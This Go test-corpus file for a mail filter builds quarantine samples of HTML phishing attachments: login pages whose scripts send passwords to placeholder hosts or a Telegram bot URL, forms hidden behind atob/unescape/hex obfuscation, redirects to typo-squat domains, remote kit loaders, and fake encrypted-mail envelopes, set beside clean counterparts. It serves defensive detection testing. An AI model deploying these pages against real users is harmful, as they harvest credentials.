package corpus

import (
	"crypto/sha256"
	"encoding/base64"
	"strings"

	"github.com/kensa-milter/kensa/policy"
)

// HTML attachments as today's phishing kits build them: a login page with
// no form whose script sends the password, a page written by script from
// escaped or base64 text, attribute tricks, and pages that only send the
// reader to a remote page. Each travels in the three wrappings of the
// Office samples (attached, in a zip, in a mail in a zip). Every page was
// opened in Chromium (Debian 12's, headless) to check that it renders and
// behaves as described; the addresses are reserved names.

const phishTarget = "https://collect.example.net/owa/auth.php"

// phishLogin is a fake mail login with no form: the kit's script reads the
// fields.
const phishLogin = `<div class="box"><h2>Sign in to view the shared document</h2>` +
	`<input type="email" id="ai" placeholder="Email address"><input type="password" id="pr" placeholder="Password">` +
	`<button id="submit-btn">Sign in</button></div>`

// phishPage is a whole kit page: head, style, the login, and script.
func phishPage(title, style, login, script string) string {
	return "<!DOCTYPE html>\r\n<html><head><meta charset=\"utf-8\"><title>" + title + "</title><style>body{font-family:Segoe UI,Arial;background:#f3f2f1}" +
		".box{width:340px;margin:80px auto;background:#fff;padding:40px}" + style + "</style></head>\r\n<body>" + login +
		"\r\n<script>\r\n" + script + "\r\n</script></body></html>\r\n"
}

func percentEncoded(s string) string {
	const hexd = "0123456789ABCDEF"
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		b.WriteByte('%')
		b.WriteByte(hexd[s[i]>>4])
		b.WriteByte(hexd[s[i]&15])
	}
	return b.String()
}

func hexEscaped(s string) string {
	const hexd = "0123456789abcdef"
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		b.WriteString(`\x`)
		b.WriteByte(hexd[s[i]>>4])
		b.WriteByte(hexd[s[i]&15])
	}
	return b.String()
}

// writtenLogin is the markup a kit writes with document.write: the login
// with a form that posts away.
const writtenLogin = `<div class="box"><h2>Confirm your mailbox</h2><form method="post" action="` + phishTarget + `">` +
	`<input type="email" name="login" placeholder="Email"><input type="password" name="passwd" placeholder="Password">` +
	`<input type="submit" value="Next"></form></div>`

// writtenLink is a page a kit writes with document.write that shows no
// form, only a link: the sign-in happens on the lookalike site.
const writtenLink = `<div class="box"><h2>A document was shared with you</h2><p>Q4 payroll adjustments.xlsx (87 KB)</p>` +
	`<p><a href="https://secure-micorsoft-login.com/sharepoint/view?id=4471" style="padding:8px;background:#0078d4;color:#fff">Open in SharePoint</a></p></div>`

// redirectLookalike is where a redirector's script sends the window: a
// typo-squat of microsoft.com, nowhere in the page's bytes.
const redirectLookalike = "secure-micorsoft-login.com"

// sendFetch is the kit's script that posts the fields with fetch.
const sendFetch = `document.getElementById("submit-btn").addEventListener("click", function (ev) {` + "\r\n" +
	`  ev.preventDefault();` + "\r\n" +
	`  fetch("` + phishTarget + `", {method: "POST", headers: {"Content-Type": "application/x-www-form-urlencoded"},` + "\r\n" +
	`    body: "ai=" + encodeURIComponent(document.getElementById("ai").value) + "&pr=" + encodeURIComponent(document.getElementById("pr").value)});` + "\r\n" +
	`});`

// secureEnvelope is a secure-message envelope of the kind an
// encrypted-mail service attaches (written for the corpus after the
// elements Cisco's recipient guide describes: sender, recipient, password
// field, Open button, help and forgotten-password links, the encrypted
// message in the file): its form and its script send only to the
// service's host, res.cisco.com. action is where the form posts; script
// runs when Open is pressed; the encrypted message stands in as bytes
// derived from seed, so that each envelope holds its own message.
func secureEnvelope(seed, action, script string) string {
	var msg []byte
	for h := sha256.Sum256([]byte(seed)); len(msg) < 576; h = sha256.Sum256(h[:]) {
		msg = append(msg, h[:]...)
	}
	payload := base64.StdEncoding.EncodeToString(msg)
	var lines []string
	for len(payload) > 76 {
		lines, payload = append(lines, payload[:76]), payload[76:]
	}
	lines = append(lines, payload)
	return "<!DOCTYPE html>\r\n<html><head><meta charset=\"utf-8\"><title>Secure Message</title><style>body{font-family:Arial}.env{width:520px;margin:40px auto;border:1px solid #ccc;padding:24px}</style></head>\r\n" +
		`<body><div class="env"><img src="https://res.cisco.com/websafe/images/envelope.gif" alt=""><h2>Secure Message</h2>` +
		`<p>From: billing@shop.example.com<br>To: kenji@corp.example.jp<br>Received: 15 January 2027 10:15</p>` + "\r\n" +
		`<form name="envelope" method="post" action="` + action + `">` + "\r\n" +
		`<input type="hidden" name="encryptedMessage" value="` + strings.Join(lines, "\r\n") + `">` + "\r\n" +
		`<input type="hidden" name="keyId" value="7f3c-4471"><label>Password: <input type="password" name="key1"></label> ` +
		`<button type="submit" id="open">Open</button></form>` + "\r\n" +
		`<p><a href="https://res.cisco.com/websafe/help?topic=RegEnvelope">Help</a> | <a href="https://res.cisco.com/websafe/pswdForgot.action">Forgot password?</a></p></div>` + "\r\n" +
		"<script>\r\ndocument.forms[0].addEventListener(\"submit\", function (ev) {\r\n" + script + "});\r\n</script></body></html>\r\n"
}

// envelopeAction is where the honest envelope posts.
const envelopeAction = "https://res.cisco.com/websafe/openEnvelope"

func htmlPhishCases() []officeCase {
	b64 := base64.StdEncoding.EncodeToString([]byte(writtenLogin))
	var codes []string
	for _, c := range []byte(writtenLogin) {
		codes = append(codes, itoa(int(c)))
	}
	quarantine := htmlCase
	return append([]officeCase{
		quarantine("html-phish-fetch-no-form", "HTML login page with no form: its script posts the password with fetch",
			"Fax_Document.html", phishPage("Document", "", phishLogin, sendFetch), "html-credential-form"),
		quarantine("html-phish-telegram", "HTML login page whose XMLHttpRequest sends the password to the Telegram bot API",
			"Remittance.htm", phishPage("Remittance", "", phishLogin, `document.getElementById("submit-btn").onclick = function () {`+"\r\n"+
				`  var msg = "Email: " + document.getElementById("ai").value + " Password: " + document.getElementById("pr").value;`+"\r\n"+
				`  var x = new XMLHttpRequest();`+"\r\n"+
				`  x.open("POST", "https://api.telegram.org/bot5123456789:AAF-kensa-corpus/sendMessage", true);`+"\r\n"+
				`  x.setRequestHeader("Content-Type", "application/x-www-form-urlencoded");`+"\r\n"+
				`  x.send("chat_id=-1001&text=" + encodeURIComponent(msg));`+"\r\n"+
				`};`), "html-credential-form"),
		quarantine("html-phish-action-by-script", "HTML login form with an empty action that its script points at a remote page",
			"Invoice_Payment.html", phishPage("Payment", "", `<div class="box"><form id="lf" action="" method="post"><input type="email" name="u">`+
				`<input type="password" name="p"><button>Sign in</button></form></div>`, `var f = document.getElementById("lf");`+"\r\n"+`f.action = "`+phishTarget+`";`), "html-credential-form"),
		quarantine("html-phish-write-unescape", "HTML page that writes its login form with document.write(unescape('%3C%64...'))",
			"Secure_Message.html", "<html><head><title>Secure message</title></head><body>\r\n<script language=\"javascript\">document.write(unescape('"+percentEncoded(writtenLogin)+"'));</script>\r\n</body></html>\r\n", "html-credential-form"),
		quarantine("html-phish-write-atob", "HTML page that writes its login form with document.write(decodeURIComponent(escape(atob(...))))",
			"Payment_Advice.html", "<html><body>\r\n<script>\r\nvar _0x1 = \""+b64+"\";\r\ndocument.write(decodeURIComponent(escape(window.atob(_0x1))));\r\n</script>\r\n</body></html>\r\n", "html-credential-form"),
		quarantine("html-phish-hex-innerhtml", "HTML page whose login form is a hex-escaped string put into innerHTML",
			"Statement.html", "<html><body><div id=\"app\">Loading...</div>\r\n<script>\r\ndocument.getElementById(\"app\").innerHTML = \""+hexEscaped(writtenLogin)+"\";\r\n</script></body></html>\r\n", "html-credential-form"),
		quarantine("html-phish-charcodes", "HTML page that writes its login form from an array of character codes",
			"Voice_Message.html", "<html><body>\r\n<script>\r\nvar c = ["+strings.Join(codes, ",")+"];\r\ndocument.write(c.map(function (n) { return String.fromCharCode(n); }).join(\"\"));\r\n</script></body></html>\r\n", "html-credential-form"),
		quarantine("html-phish-attribute-tricks", "HTML login form whose password box is a text field masked by -webkit-text-security, with a duplicate type and an entity-encoded action",
			"Shared_File.html", phishPage("OneDrive", ".pw{-webkit-text-security:disc}", `<div class="box"><form method="post" action="&#104;ttps&#58;//collect.example.net/owa/auth.php">`+
				`<input type="email" name="login"><input class="pw" type="text" type="password" name="passwd" autocomplete="off"><input type="submit" value="Sign in"></form></div>`, ""), "html-credential-form"),
		quarantine("html-link-written-atob", "HTML attachment whose only content is document.write(atob(...)): the page it writes links to a typo-squat of microsoft.com",
			"Shared_Document.html", "<html><body>\r\n<script>document.write(atob('"+base64.StdEncoding.EncodeToString([]byte(writtenLink))+"'));</script>\r\n</body></html>\r\n", "lookalike-domain"),
		quarantine("html-link-written-unescape", "HTML attachment that writes, with document.write(unescape('%3C%61...')), a link showing www.paypal.com that goes to a lookalike",
			"Account_Notice.html", "<html><head><title>Notice</title></head><body>\r\n<script language=\"javascript\">document.write(unescape('"+percentEncoded(
				`<div class="box"><p>We could not verify your last payment.</p><p><a href="https://paypal-secure-login.com/resolution/case">https://www.paypal.com/resolution</a></p></div>`)+"'));</script>\r\n</body></html>\r\n", "lookalike-domain"),
		quarantine("html-redirect-meta-refresh", "HTML attachment that only refreshes to a remote page",
			"Voicemail_0412.html", "<html><head><meta http-equiv=\"Refresh\" content=\"0; URL='https://landing.example.net/voicemail/?id=kensa'\"></head><body>Loading your voicemail...</body></html>\r\n", "html-redirect-attachment"),
		quarantine("html-redirect-location", "HTML attachment whose script sends the window to a remote page built from base64 and pieces",
			"Document_Review.html", "<html><body><p>Please wait while your document loads.</p>\r\n<script>\r\nvar t = atob(\""+base64.StdEncoding.EncodeToString([]byte("https://landing.example.net/review/"))+"\");\r\nwindow['loc' + 'ation']['replace'](t + '#' + 'kenji@corp.example.jp');\r\nwindow.location.href = t;\r\n</script></body></html>\r\n", "html-redirect-attachment"),
		quarantine("html-redirect-lookalike-atob", "HTML attachment whose timer sends the window, from a base64 literal held in a variable, to a typo-squat of microsoft.com: the target itself is judged",
			"Payroll_Update.html", "<html><body><p>Loading your document...</p>\r\n<script>\r\nvar dst = atob('"+base64.StdEncoding.EncodeToString([]byte("https://"+redirectLookalike+"/common/oauth2/authorize?client_id=4471"))+"');\r\n"+
				"setTimeout(function () { window.location.replace(dst + '#' + 'kenji@corp.example.jp'); }, 300);\r\n</script></body></html>\r\n", "html-redirect-attachment", "lookalike-domain"),
		// Addresses built from literal pieces, which Kensa folds (never runs).
		quarantine("html-redirect-joined-lookalike", "HTML attachment whose timer sends the window to a typo-squat of microsoft.com spelled as pieces joined with \"/\" ([\"https:\", \"\", host, ...].join(\"/\"))",
			"Scan_0412.html", "<html><body><p>Loading your document...</p>\r\n<script>\r\n"+
				"setTimeout(function () { window.location.replace([\"https:\", \"\", \""+redirectLookalike+"\", \"common\", \"oauth2\", \"authorize?client_id=4471\"].join(\"/\")); }, 300);\r\n</script></body></html>\r\n", "html-redirect-attachment", "lookalike-domain"),
		quarantine("html-redirect-template-lookalike", "HTML attachment that sends the window to a typo-squat of microsoft.com written as a template literal of a host held, in pieces, in a variable",
			"Invoice_7731.html", "<html><body><p>Opening your invoice...</p>\r\n<script>\r\nconst host = \"secure-micorsoft\" + '-login' + \".com\";\r\n"+
				"window.location.href = `https://${host}/sharepoint/view?id=7731`;\r\n</script></body></html>\r\n", "html-redirect-attachment", "lookalike-domain"),
		quarantine("html-phish-formaction-joined", "HTML login form with an empty action whose button's formAction the script sets to an address joined from pieces",
			"Payroll_Portal.html", phishPage("Payroll", "", `<div class="box"><form id="lf" action="" method="post"><input type="email" name="u">`+
				`<input type="password" name="p"><button id="go">Sign in</button></form></div>`,
				`document.getElementById("go").formAction = ["https:", "", "collect.example.net", "owa", "auth.php"].join("/");`), "html-credential-form"),
		quarantine("html-phish-setattribute-submit", "HTML login form pointed at a remote page by setAttribute(\"ACTION\", ...) and submitted by script (requestSubmit) when the button is pressed",
			"Secure_Statement.html", phishPage("Statement", "", `<div class="box"><form id="lf" method="post"><input type="email" name="u">`+
				`<input type="password" name="p"><button type="button" id="go">Sign in</button></form></div>`,
				`document.getElementById("go").onclick = function () {`+"\r\n"+
					`  var f = document.getElementById("lf");`+"\r\n"+
					`  f.setAttribute("ACTION", "https://" + "collect.example" + ".net/owa/auth.php");`+"\r\n"+
					`  f.requestSubmit();`+"\r\n"+
					`};`), "html-credential-form"),
		quarantine("html-phish-json-config-lookalike", "HTML login page with no form whose fetch target is read from a base64 JSON configuration: the target, a typo-squat of microsoft.com, is judged",
			"Shared_Folder.html", phishPage("OneDrive", "", phishLogin,
				`var cfg = JSON.parse(atob("`+base64.StdEncoding.EncodeToString([]byte(`{"gate":"https://`+redirectLookalike+`/owa/auth.php","retry":2}`))+`"));`+"\r\n"+
					`document.getElementById("submit-btn").addEventListener("click", function (ev) {`+"\r\n"+
					`  ev.preventDefault();`+"\r\n"+
					`  fetch(cfg.gate, {method: "POST", body: "ai=" + encodeURIComponent(document.getElementById("ai").value) + "&pr=" + encodeURIComponent(document.getElementById("pr").value)});`+"\r\n"+
					`});`), "html-credential-form", "lookalike-domain"),
		// Imitations of an encrypted-mail envelope: the service's look, but
		// the password also (or only) goes elsewhere.
		quarantine("html-phish-envelope-imitation", "HTML imitation of a secure-message envelope: the service's images and help links, its form posting to a collecting host",
			"securedoc_20270115T101500.html", secureEnvelope("imitation", phishTarget, ""), "html-credential-form"),
		quarantine("html-phish-envelope-both", "HTML secure-message envelope whose form posts to the service while its script also sends the password to a collecting host",
			"securedoc_20270115T101501.html", secureEnvelope("both", envelopeAction,
				`  fetch(["https:", "", "collect.example.net", "owa", "auth.php"].join("/"), {method: "POST", mode: "no-cors", keepalive: true, body: new FormData(this)});`+"\r\n"), "html-credential-form"),
		quarantine("html-phish-envelope-userinfo", "HTML secure-message envelope whose form action names the service's host as userinfo (https://res.cisco.com@collect...): the browser posts to the host after the @",
			"securedoc_20270115T101502.html", secureEnvelope("userinfo", "https://res.cisco.com@collect.example.net/owa/auth.php", ""), "html-credential-form"),
		quarantine("html-redirect-iframe", "HTML attachment that shows a remote login page in a frame across the window",
			"Wire_Confirmation.html", "<html><head><style>html,body{margin:0;height:100%;overflow:hidden}</style></head><body>\r\n<iframe src=\"https://landing.example.net/signin/\" style=\"position:fixed;top:0;left:0;width:100%;height:100%;border:none\"></iframe>\r\n</body></html>\r\n", "html-redirect-attachment"),
		quarantine("html-redirect-written-refresh", "HTML attachment whose script writes a meta refresh to a remote page with document.write(unescape(...))",
			"Order_Details.html", "<html><body><script>document.write(unescape(\""+percentEncoded(`<meta http-equiv="refresh" content="0;url=https://landing.example.net/order/">`)+"\"));</script></body></html>\r\n", "html-redirect-attachment"),
		// Loaders: the page shows nothing of its own and draws the kit from
		// its server, so neither the form nor its link is in the file.
		quarantine("html-loader-script-src", "HTML attachment with nothing of its own but hidden padding, whose page is drawn by a script from the kit's server",
			"Remittance_Advice.html", "<html><head><title>Remittance advice</title></head><body><div id=\"root\">Loading...</div>\r\n<div style=\"display: none\">"+strings.Repeat("<p>Remittance advice for invoice 4471, payment of 12 November.</p>", 12)+"</div>\r\n"+
				"<script src=\"https://landing.example.net/kit/app.js?e=kenji@corp.example.jp\"></script></body></html>\r\n", "html-redirect-attachment"),
		quarantine("html-loader-fetch-write", "HTML attachment whose script fetches the kit's page from an address in base64 and writes it over itself",
			"Payment_Confirmation.html", "<html><body><p>Loading your document...</p>\r\n<script>\r\nfetch(atob(\""+base64.StdEncoding.EncodeToString([]byte("https://landing.example.net/kit/page"))+"\"))\r\n"+
				"  .then(function (r) { return r.text(); })\r\n  .then(function (h) { document.open(); document.write(h); document.close(); });\r\n</script></body></html>\r\n", "html-redirect-attachment"),
		quarantine("html-loader-script-element", "HTML attachment whose script builds a script element whose address is joined from pieces",
			"Purchase_Order.html", "<html><body>\r\n<script>\r\nvar s = document.createElement(\"script\");\r\n"+
				"s.src = [\"https:\", \"\", \"landing.example.net\", \"kit\", \"po.js\"].join(\"/\");\r\ndocument.head.appendChild(s);\r\n</script></body></html>\r\n", "html-redirect-attachment"),
		// Loaders padded with text Chromium does not show the reader.
		quarantine("html-loader-padding-offscreen", "HTML loader padded with text a style sheet class moves far off the screen (position:absolute; left:-9999px)",
			"Remittance_Advice.html", paddedLoader(".pad{position:absolute;left:-9999px;top:0}", `<div class="pad">`, `</div>`), "html-redirect-attachment"),
		quarantine("html-loader-padding-clipped", "HTML loader padded with text clipped to nothing (clip:rect(0 0 0 0) by id, clip-path:inset(50%) inline)",
			"Remittance_Advice.html", paddedLoader("#pad{position:absolute;clip:rect(0 0 0 0)}", `<div id="pad">`, `</div><div style="clip-path:inset(50%)">Remittance advice for invoice 4471.</div>`), "html-redirect-attachment"),
		quarantine("html-loader-padding-colour", "HTML loader padded with text in the colour of the page's background, written another way (#f3f2f1 against rgb(243, 242, 241))",
			"Remittance_Advice.html", paddedLoader("body{background:#f3f2f1}.pad{color:rgb(243, 242, 241)}", `<div class="pad">`, `</div>`), "html-redirect-attachment"),
		quarantine("html-loader-padding-tiny", "HTML loader padded with text of a 1px font, its first lines indented off the screen",
			"Remittance_Advice.html", paddedLoader(".pad p{font-size:1px}", `<div class="pad" style="text-indent:-9999px">`, `</div>`), "html-redirect-attachment"),
		quarantine("html-loader-padding-covered", "HTML loader whose padding lies under an opaque box fixed across the window, into which the kit draws",
			"Remittance_Advice.html", paddedLoader(".cover{position:fixed;inset:0;background:#fff;z-index:100}", `<div>`, `</div><div class="cover" id="kit"></div>`), "html-redirect-attachment"),
	}, append(append(append(htmlFoldCases(), htmlKitCases()...), redirectGateCases()...), scriptBuiltCases()...)...)
}

// paddedLoader is a loader page (its kit from landing.example.net) with a
// style sheet and the padding between open and close.
func paddedLoader(css, open, close string) string {
	return "<!DOCTYPE html>\r\n<html><head><meta charset=\"utf-8\"><title>Remittance advice</title><style>" + css + "</style></head><body><div id=\"root\">Loading...</div>\r\n" +
		open + strings.Repeat("<p>Remittance advice for invoice 4471, payment of 12 November.</p>", 12) + close +
		"\r\n<script src=\"https://landing.example.net/kit/app.js?e=kenji@corp.example.jp\"></script></body></html>\r\n"
}

// htmlCase is an HTML attachment sent as a shared document, quarantined
// for the heuristic findings ids.
func htmlCase(name, about, file, data string, ids ...string) officeCase {
	var wants []relWant
	for _, id := range ids {
		wants = append(wants, relWant{"heuristic", id, ""})
	}
	return officeCase{name: name, about: about, action: policy.Quarantine, subject: "Shared document", body: "You have received a document. Open the attachment to view it.\n",
		ctype: "text/html; charset=utf-8", file: file, data: []byte(data), wants: wants}
}

// htmlPhishClean are the honest HTML attachments beside them: a saved
// receipt, a newsletter saved as a page with a video and buttons, an
// exported report with a feedback form to the sender's own site and an
// analytics call, a chart that loads its library from a CDN, and a body
// with a sign-in link.
func htmlPhishClean() []Sample {
	ok := func(name, about string) Sample { return Sample{Name: name, Clean: true, About: about} }
	var out []Sample
	add := func(s Sample, m mail) { out = append(out, build(s, m)) }
	var items strings.Builder
	for i := 1; i <= 12; i++ {
		items.WriteString("<tr><td>Item " + itoa(i) + ": shell fittings, brass, 25 mm</td><td>" + itoa(i*3) + "</td><td>" + itoa(i*420) + " JPY</td></tr>\r\n")
	}
	add(ok("html-saved-receipt", "a receipt saved from the shop's site as .html: links, a print button, a script that reports a page view"),
		mail{subject: "Your receipt", root: multipart("mixed", text("Your receipt is attached as a web page.\n"),
			attach("text/html; charset=utf-8", "receipt-2026-1187.html", []byte("<!DOCTYPE html>\r\n<html><head><meta charset=\"utf-8\"><title>Receipt 2026-1187</title>"+
				"<script>window.dataLayer = window.dataLayer || []; fetch(\"https://stats.shop.example.com/collect?page=receipt\", {method: \"POST\", keepalive: true});</script></head>\r\n"+
				"<body><h1>Example Shop</h1><p>Receipt 2026-1187, 2 November 2026. Thank you for your order.</p><table>"+items.String()+"</table>\r\n"+
				"<p><a href=\"https://shop.example.com/orders/2026-1187\">View your order</a> · <a href=\"https://shop.example.com/account/login\">Sign in to your account</a></p>"+
				"<button onclick=\"window.print()\">Print</button> <button onclick=\"location.href='https://shop.example.com/returns'\">Return an item</button></body></html>\r\n")))})
	var news strings.Builder
	for i := 1; i <= 8; i++ {
		news.WriteString("<h2>Story " + itoa(i) + "</h2><p>The beach project moved on this month: new fittings, a second pier and photos from the site visit. Read the whole story on our site.</p>\r\n")
	}
	add(ok("html-saved-newsletter", "a newsletter saved as .html: stories, a video frame, a button that opens the shop"),
		mail{subject: "November newsletter", root: multipart("mixed", text("The newsletter as a page, for those whose mail client hides images.\n"),
			attach("text/html; charset=utf-8", "newsletter-november.html", []byte("<html><head><title>November</title><style>.btn{padding:8px}</style></head><body>"+news.String()+
				"<iframe src=\"https://video.example.org/embed/kensa\" width=\"560\" height=\"315\" allowfullscreen></iframe>\r\n"+
				"<button class=\"btn\" onclick=\"location.href='https://shop.example.com/'\">Visit the shop</button>\r\n"+
				"<script>function more(){ window.location.href = \"https://shop.example.com/news\"; }</script></body></html>\r\n")))})
	// Saved pages that hide a little from the reader, and their site's
	// own scripts: they show their text, so they are no loaders.
	var article strings.Builder
	for i := 1; i <= 5; i++ {
		article.WriteString("<p class=\"text\">The beach project moved on this month: new fittings, a second pier and photos from the site visit.</p>\r\n")
	}
	saved := func(name, about, file, css, body string) {
		add(ok(name, about), mail{subject: "The article", root: multipart("mixed", text("The article, saved as a page.\n"),
			attach("text/html; charset=utf-8", file, []byte("<!DOCTYPE html>\r\n<html><head><meta charset=\"utf-8\"><title>The beach project</title><style>"+css+"</style></head>\r\n"+
				"<body>"+body+"<script src=\"https://www.shop.example.com/static/site.js\"></script></body></html>\r\n")))})
	}
	saved("html-saved-article-accessible", "a saved article with a skip link, screen-reader text (.sr-only, .visually-hidden) and a cookie banner, and its site's own script", "beach-project.html",
		".sr-only{position:absolute;width:1px;height:1px;padding:0;margin:-1px;overflow:hidden;clip:rect(0,0,0,0);white-space:nowrap;border:0}"+
			".visually-hidden:not(:focus){position:absolute!important;width:1px!important;height:1px!important;overflow:hidden!important;clip-path:inset(50%)!important}"+
			".skip-link{position:absolute;left:-9999px}.skip-link:focus{left:0}"+
			".cookie{position:fixed;bottom:0;left:0;width:100%;background:#222;color:#fff;padding:12px}",
		"<a class=\"skip-link\" href=\"#main\">Skip to content</a><nav><span class=\"sr-only\">Main menu</span><a href=\"https://www.shop.example.com/\">Home</a></nav>\r\n"+
			"<main id=\"main\"><h1>The beach project</h1>"+article.String()+"<span class=\"visually-hidden\">End of article</span></main>\r\n"+
			"<div class=\"cookie\">We use cookies to keep you signed in. <button>Accept</button></div>")
	saved("html-saved-page-styled", "a saved page whose text is dark on light through CSS classes, with a dark card and a heading on a picture, and its site's own script", "beach-project-styled.html",
		"body{background:#ffffff}.text{color:#1a1a1a}.card{background:#1e1e1e;color:#f5f5f5;padding:8px}"+
			".hero{background:#fff url(https://www.shop.example.com/img/pier.jpg) center/cover;height:200px}.hero h1{color:#fff}"+
			"@media print{.card{display:none}}",
		"<div class=\"hero\"><h1>The beach project</h1></div>"+article.String()+"<div class=\"card\">Visit the site office on Fridays.</div>")
	add(ok("html-exported-report", "an exported report (.html) with a feedback form to the sender's own site and an analytics fetch, no password field"),
		mail{subject: "Weekly report", root: multipart("mixed", text("This week's report.\n"),
			attach("text/html; charset=utf-8", "weekly-report.html", []byte("<html><body><h1>Weekly sales report</h1><table>"+items.String()+"</table>\r\n"+
				"<form method=\"post\" action=\"https://reports.shop.example.com/feedback\"><label>Comments <input type=\"text\" name=\"comment\"></label><input type=\"email\" name=\"from\"><button>Send</button></form>\r\n"+
				"<script>fetch(\"https://reports.shop.example.com/opened?r=weekly\");</script></body></html>\r\n")))})
	add(ok("html-saved-page-analytics", "a page saved as .html whose analytics script builds its addresses from pieces (+, join, concat, a template) to the shop's own hosts; no password field"),
		mail{subject: "Your order page", root: multipart("mixed", text("Your order, saved as a page.\n"),
			attach("text/html; charset=utf-8", "order-2026-1187.html", []byte("<!DOCTYPE html>\r\n<html><head><meta charset=\"utf-8\"><title>Order 2026-1187</title>\r\n<script>\r\n"+
				"var base = \"https://stats.\" + \"shop.example.com\";\r\nvar page = `order`;\r\n"+
				"fetch(base + \"/collect?page=\" + page, {method: \"POST\", keepalive: true});\r\n"+
				"var px = new Image(); px.src = [\"https:\", \"\", \"cdn.shop.example.com\", \"px.gif\"].join(\"/\") + \"?t=\" + Date.now();\r\n"+
				"var help = \"https://\".concat(\"shop.example.com\", \"/help\");\r\n</script></head>\r\n"+
				"<body><h1>Example Shop</h1><p>Order 2026-1187, 2 November 2026.</p><table>"+items.String()+"</table>\r\n"+
				"<p><a href=\"https://shop.example.com/orders/2026-1187\">View your order</a></p>"+
				"<button onclick=\"location.href = help\">Help</button></body></html>\r\n")))})
	add(ok("html-secure-envelope", "a secure-message envelope from an encrypted-mail service (Cisco's, securedoc_*.html): a password field whose form and script send only to the service's host, res.cisco.com"),
		mail{from: "Example Shop Billing <billing@shop.example.com>", subject: "[Secure] Your January statement", root: multipart("mixed",
			text("You have received a secure message. Open the attachment securedoc_20270115T101503.html to read it.\n"),
			attach("text/html; charset=utf-8", "securedoc_20270115T101503.html", []byte(secureEnvelope("honest", envelopeAction,
				`  this.action = "https://res.cisco.com/websafe/" + "openEnvelope?keyId=" + this.keyId.value;`+"\r\n"))))})
	add(ok("html-exported-chart", "a chart exported as .html that loads its library (Plotly) from the library's CDN and shows no text of its own"),
		mail{subject: "Sales chart", root: multipart("mixed", text("The chart from today's meeting.\n"),
			attach("text/html; charset=utf-8", "sales-chart.html", []byte("<html><head><meta charset=\"utf-8\"></head><body><div id=\"plot\" style=\"height:100%\"></div>\r\n"+
				"<script src=\"https://cdn.plot.ly/plotly-2.35.2.min.js\"></script>\r\n"+
				"<script>Plotly.newPlot(\"plot\", [{\"x\": [\"Q1\", \"Q2\", \"Q3\", \"Q4\"], \"y\": [120, 135, 128, 160], \"type\": \"bar\"}]);</script></body></html>\r\n")))})
	add(ok("html-body-login-link", "an HTML body asking the reader to sign in by a link to the sender's own site"),
		mail{subject: "Your account", root: html(`<p>Dear customer,</p><p>your statement is ready. <a href="https://shop.example.com/account/login">Sign in to your account</a> to read it.</p><p>Example Shop</p>`)})
	return append(append(append(out, htmlFoldClean()...), htmlKitClean()...), redirectGateClean()...)
}
